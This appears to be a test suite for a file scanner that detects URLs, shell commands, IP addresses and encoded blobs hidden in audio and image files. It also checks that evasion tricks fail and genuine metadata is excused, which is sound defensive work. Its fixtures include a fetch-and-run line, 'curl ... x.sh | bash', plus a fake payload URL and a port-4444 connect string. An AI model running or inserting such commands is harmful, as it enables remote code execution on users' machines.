import { stringsAnalyzer } from '../../src/analyzers/strings.js';
import { metadataSpans } from '../../src/decode/metadata.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { b64, bytes, concat, fakePNG, prng, sine, wav } from '../helpers/payloads.js';

/**
 * The strings analyzer against an attacker who knows it: markers that fake metadata, payloads after long padding or
 * after many decoy strings, and the structural metadata of every container still excused.
 */

const run = (path: string, data: Uint8Array) => runAnalyzer(stringsAnalyzer, path, data);

const EVIL_URL = 'http://203.0.113.5:8080/payload.exe';
const EVIL_CMD = 'curl -s https://cdn.example.net/x.sh | bash';

function le32(n: number): Uint8Array {
  return new Uint8Array([n & 255, (n >>> 8) & 255, (n >>> 16) & 255, (n >>> 24) & 255]);
}
function be32(n: number): Uint8Array {
  return new Uint8Array([(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
}

/** Samples with `text` spliced into the middle, NUL-delimited. */
const wavWith = (text: Uint8Array | string): Uint8Array => wav(concat(sine(4000), '\0', text, '\0', sine(4000)));

describe('fake metadata markers do not lower a payload\'s score', () => {
  const plain = async (text: string) => {
    const r = await run('pkg/a.wav', wavWith(text));
    return { url: scoreOf(r, 'strings.url'), cmd: scoreOf(r, 'strings.shell-command'), ip: scoreOf(r, 'strings.ip') };
  };

  test('a dangerous URL and a command line score the same wrapped in XMP, ID3, APE, Vorbis or ICC markers', async () => {
    const bare = await plain(`get ${EVIL_URL} then ${EVIL_CMD}`);
    expect(bare.url).toBe(2);
    expect(bare.cmd).toBe(3);
    const wrappers: Array<[string, (s: string) => Uint8Array]> = [
      ['xmp packet', (s) => bytes(`<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta><rdf:RDF>${s}</rdf:RDF></x:xmpmeta><?xpacket end="w"?>`)],
      ['xmp begin only', (s) => bytes(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${s}`)],
      ['id3 header', (s) => concat('ID3\x03\x00\x00\x7f\x7f\x7f\x7f', '\0', s)],
      ['ape footer', (s) => concat(s, '\0', 'APETAGEX', new Uint8Array(24))],
      ['vorbis comment', (s) => concat('\x03vorbis', '\0', s)],
      ['opus tags', (s) => concat('OpusTags', '\0', s)],
      ['icc header', (s) => concat(be32(4096), new Uint8Array(32), 'acsp', '\0', s)],
    ];
    for (const [name, w] of wrappers) {
      const r = await run('pkg/a.wav', wavWith(w(`get ${EVIL_URL} then ${EVIL_CMD}`)));
      expect([name, scoreOf(r, 'strings.url'), scoreOf(r, 'strings.shell-command')]).toEqual([name, bare.url, bare.cmd]);
    }
  });

  test('an IP literal and an encoded blob are not hidden by a fake XMP packet in samples', async () => {
    const xmp = (s: string) => `<?xpacket begin=""?><x:xmpmeta>${s}</x:xmpmeta><?xpacket end="w"?>`;
    expect(ruleIds(await run('pkg/a.wav', wavWith(xmp('connect to 198.51.100.23 port 4444'))))).toEqual(['strings.ip']);
    const blob = b64(prng(6000, 7));
    const bare = await run('pkg/a.wav', wavWith(blob));
    const wrapped = await run('pkg/a.wav', wavWith(xmp(blob)));
    expect(scoreOf(bare, 'strings.encoded-blob')).toBeGreaterThan(0);
    expect(scoreOf(wrapped, 'strings.encoded-blob')).toBe(scoreOf(bare, 'strings.encoded-blob'));
  });

  test('in a format without a walker, a complete XMP packet excuses ordinary links but not dangerous ones', async () => {
    const bmp = (text: string) => {
      const h = new Uint8Array(54);
      h.set(bytes('BM'));
      h.set(le32(54 + 4000), 2);
      h.set(le32(54), 10);
      h.set(le32(40), 14);
      return concat(h, prng(2000, 3), `<?xpacket begin=""?><x:xmpmeta>${text}</x:xmpmeta><?xpacket end="w"?>`, prng(2000, 4));
    };
    expect((await run('pkg/a.bmp', bmp('<dc:source>https://photographer.example.com/about</dc:source>'))).findings).toEqual([]);
    expect(scoreOf(await run('pkg/a.bmp', bmp(`<dc:source>${EVIL_URL}</dc:source>`)), 'strings.url')).toBe(2);
    expect(scoreOf(await run('pkg/a.bmp', bmp(EVIL_CMD)), 'strings.shell-command')).toBe(3);
  });
});

describe('nothing in the file is skipped', () => {
  test('a URL or command after more than 4096 printable bytes of padding is found', async () => {
    for (const pad of [' '.repeat(5000), 'x'.repeat(100_000), 'ab '.repeat(3000)]) {
      const r = await run('pkg/a.wav', wavWith(`${pad} ${EVIL_URL} ${EVIL_CMD}`));
      expect([pad.length, ruleIds(r)]).toEqual([pad.length, ['strings.shell-command', 'strings.url']]);
    }
  });

  test('a URL that straddles two windows of a long string is found once, whole', async () => {
    for (let shift = 3500; shift < 3700; shift += 37) {
      const r = await run('pkg/a.wav', wavWith(`${'y'.repeat(shift)} ${EVIL_URL} `));
      const urls = r.findings.filter((f) => f.rule === 'strings.url');
      expect([shift, urls.length, urls[0]?.evidence?.url]).toEqual([shift, 1, 'hxxp://203[.]0[.]113[.]5:8080/payload.exe']);
    }
  });

  test('a command after 250,000 decoy strings is found', async () => {
    const decoys = 'a b c d e\0'.repeat(250_000);
    const r = await run('pkg/a.wav', wavWith(`${decoys}${EVIL_CMD}`));
    expect(ruleIds(r)).toContain('strings.shell-command');
    expect(r.incomplete).toEqual([]);
  });

  test('a string that starts inside a metadata chunk and runs out of it is judged as data', async () => {
    // a RIFF LIST INFO chunk whose declared size ends in the middle of a printable string
    const info = bytes(`INFOICMT\x20\0\0\0see the homepage please thank you `);
    const list = concat('LIST', le32(info.length), info);
    const tail = bytes(`and then ${EVIL_CMD}`);
    const body = concat(list, tail);
    const fmt = concat('fmt ', le32(16), new Uint8Array([1, 0, 1, 0, 0x40, 0x1f, 0, 0, 0x80, 0x3e, 0, 0, 2, 0, 16, 0]));
    const data = concat('data', le32(8000), sine(4000));
    const riff = concat('WAVE', fmt, body, data);
    const r = await run('pkg/a.wav', concat('RIFF', le32(riff.length), riff));
    expect(scoreOf(r, 'strings.shell-command')).toBe(3);
  });
});

describe('real metadata, found by walking each container, is still excused', () => {
  const HOME = 'visit https://www.example-band.com/tour for more';

  test('Ogg Vorbis comments, MP3 ID3v2/APE/ID3v1 tags, AIFF text chunks, GIF comments', async () => {
    // Ogg: an identification page, then a comment page
    const page = (flags: number, seq: number, body: Uint8Array) =>
      concat('OggS\0', new Uint8Array([flags]), new Uint8Array(8), le32(77), le32(seq), new Uint8Array(4), new Uint8Array([1, body.length]), body);
    const ogg = concat(page(2, 0, concat('\x01vorbis', new Uint8Array(23))), page(0, 1, concat('\x03vorbis', le32(5), 'Xiph\0', le32(1), le32(HOME.length), HOME, '\x01')), page(0, 2, prng(200, 3)));
    expect((await run('pkg/a.ogg', ogg)).findings).toEqual([]);
    // a comment that runs over several pages (the first ones full: lacing 255)
    const big = concat('\x03vorbis', new Uint8Array(600 - 7 - HOME.length), HOME);
    const full = (seq: number, flags: number, b: Uint8Array) =>
      concat('OggS\0', new Uint8Array([flags]), new Uint8Array(8), le32(77), le32(seq), new Uint8Array(4), new Uint8Array([2, 255, 255]), b);
    const multi = concat(
      page(2, 0, concat('\x01vorbis', new Uint8Array(23))),
      full(1, 0, big.subarray(0, 510)),
      concat('OggS\0', new Uint8Array([1]), new Uint8Array(8), le32(77), le32(2), new Uint8Array(4), new Uint8Array([1, 90]), big.subarray(510)),
      page(0, 3, prng(200, 3)),
    );
    expect((await run('pkg/b.ogg', multi)).findings).toEqual([]);
    // the same text in an audio page is data
    const inAudio = concat(page(2, 0, concat('\x01vorbis', new Uint8Array(23))), page(0, 1, concat('\x05vorbis', bytes(`\0get ${EVIL_URL}\0`))));
    expect(ruleIds(await run('pkg/c.ogg', inAudio))).toEqual(['strings.url']);

    const frame = (id: string, body: string) => concat(id, be32(body.length), '\0\0', body);
    const frames = frame('COMM', `\0eng\0${HOME}`);
    const id3 = concat('ID3\x03\x00\x00', new Uint8Array([0, 0, (frames.length >> 7) & 127, frames.length & 127]), frames);
    const mpeg = new Uint8Array(4000);
    for (let i = 0; i < mpeg.length; i += 418) mpeg.set([0xff, 0xfb, 0x90, 0x64], i);
    const apeItem = concat(le32(HOME.length), le32(0), 'Comment\0', HOME);
    const ape = concat(apeItem, 'APETAGEX', le32(2000), le32(apeItem.length + 32), le32(1), le32(0), new Uint8Array(8));
    const v1 = concat('TAG', bytes(HOME.padEnd(125, '\0')));
    expect((await run('pkg/a.mp3', concat(id3, mpeg, ape, v1))).findings).toEqual([]);
    // an ID3 header in the middle of the frames is not a tag
    expect(ruleIds(await run('pkg/b.mp3', concat(id3, mpeg.subarray(0, 2000), 'ID3\x03\x00\x00\x7f\x7f\x7f\x7f', bytes(`\0get ${EVIL_URL}\0`), mpeg.subarray(2000))))).toEqual(['strings.url']);

    const chunk = (id: string, body: string) => concat(id, be32(body.length), body, body.length & 1 ? '\0' : '');
    const form = concat('AIFF', chunk('COMM', '\0\x01\0\0\x0f\xa0\0\x10\x40\x0b\xfa\0\0\0\0\0\0\0'), chunk('ANNO', HOME), concat('SSND', be32(8008), new Uint8Array(8), sine(4000)));
    expect((await run('pkg/a.aiff', concat('FORM', be32(form.length), form))).findings).toEqual([]);

    const gif = concat('GIF89a', new Uint8Array([16, 0, 16, 0, 0, 0, 0]), '\x21\xfe', new Uint8Array([HOME.length]), HOME, '\0', '\x2c', new Uint8Array(9), '\x02', new Uint8Array([100]), prng(100, 2), '\0;');
    expect((await run('pkg/a.gif', gif)).findings).toEqual([]);
  });

  test('PSD image resources and a BMP V5 embedded ICC profile are metadata; pixels are not', async () => {
    const icc = concat(be32(160), new Uint8Array(32), 'acsp', new Uint8Array(40), bytes('\0IEC http://www.iec.ch\0'), new Uint8Array(160 - 80 - 23));
    const resources = concat('8BIM', new Uint8Array([0x04, 0x0f, 0, 0]), be32(icc.length), icc);
    const psd = concat('8BPS', new Uint8Array([0, 1]), new Uint8Array(6), new Uint8Array([0, 3]), be32(16), be32(16), new Uint8Array([0, 8, 0, 3]), be32(0), be32(resources.length), resources, be32(0), prng(300, 1));
    expect((await run('pkg/a.psd', psd)).findings).toEqual([]);
    expect(metadataSpans(concat(psd, bytes(`\0get ${EVIL_URL}\0`)), 'psd').every((s) => s.end <= psd.length)).toBe(true);

    const info = new Uint8Array(124);
    const v = new DataView(info.buffer);
    v.setUint32(0, 124, true);
    v.setUint32(56, 0x4d424544, true); // PROFILE_EMBEDDED
    v.setUint32(112, 124 + 400, true); // profile offset from the info header
    v.setUint32(116, icc.length, true);
    const head = concat('BM', le32(14 + 124 + 400 + icc.length), le32(0), le32(14 + 124));
    const bmp = concat(head, info, prng(400, 2), icc);
    expect((await run('pkg/a.bmp', bmp)).findings).toEqual([]);
    expect(metadataSpans(bmp, 'bmp')).toEqual([{ start: 14 + 124 + 400, end: bmp.length, what: 'ICC profile' }]);
  });

  test('TIFF tag values are metadata; strips are not', async () => {
    const text = bytes(`${HOME}\0`);
    const ifdOff = 8;
    const n = 2;
    const valueOff = ifdOff + 2 + n * 12 + 4;
    const stripOff = valueOff + text.length;
    const strip = concat(prng(100, 1), bytes(`\0get ${EVIL_URL}\0`), prng(100, 2));
    const entry = (tag: number, type: number, count: number, value: number) => {
      const e = new Uint8Array(12);
      const v = new DataView(e.buffer);
      v.setUint16(0, tag, true);
      v.setUint16(2, type, true);
      v.setUint32(4, count, true);
      v.setUint32(8, value, true);
      return e;
    };
    const tif = concat('II*\0', le32(ifdOff), new Uint8Array([n, 0]), entry(270, 2, text.length, valueOff), entry(273, 4, 1, stripOff), le32(0), text, strip);
    const spans = metadataSpans(tif, 'tif');
    expect(spans.some((s) => s.start === valueOff && s.end === valueOff + text.length)).toBe(true);
    expect(spans.some((s) => s.start <= stripOff + 110 && s.end > stripOff + 110)).toBe(false);
  });

  test('walkers are bounded and never throw on hostile structures', () => {
    const cases: Array<[string, Uint8Array]> = [
      ['ogg', concat('OggS\0\x01', new Uint8Array(20), new Uint8Array([255]), new Uint8Array(255).fill(255))],
      ['ogg', bytes('OggS\0\0'.repeat(1000))],
      ['gif', concat('GIF89a', new Uint8Array([1, 0, 1, 0, 0x87, 0, 0]), new Uint8Array(768), '\x21\xfe', new Uint8Array(5000).fill(255))],
      ['tif', concat('II*\0', le32(8), new Uint8Array([255, 255]), new Uint8Array(100).fill(8))],
      ['tif', concat('MM\0*', be32(8), new Uint8Array([0, 1]), new Uint8Array([0x87, 0x69, 0, 4, 0, 0, 0, 1, 0, 0, 0, 8]), be32(8))],
      ['mp3', bytes('ID3\x04\x00\x10\x7f\x7f\x7f\x7f')],
      ['mp3', concat(new Uint8Array(100), 'APETAGEX', le32(2000), le32(0xffffffff), new Uint8Array(16))],
      ['mp3', concat(new Uint8Array(100), '999999LYRICS200')],
      ['aiff', bytes('FORM\xff\xff\xff\xffAIFFANNO\xff\xff\xff\xff')],
      ['png', concat(fakePNG(), be32(0xffffffff), 'tEXt')],
      ['bmp', bytes('<?xpacket begin'.repeat(200))],
    ];
    for (const [format, d] of cases) {
      const spans = metadataSpans(d, format);
      for (const s of spans) expect(s.start >= 0 && s.end <= d.length && s.end > s.start).toBe(true);
    }
  });
});
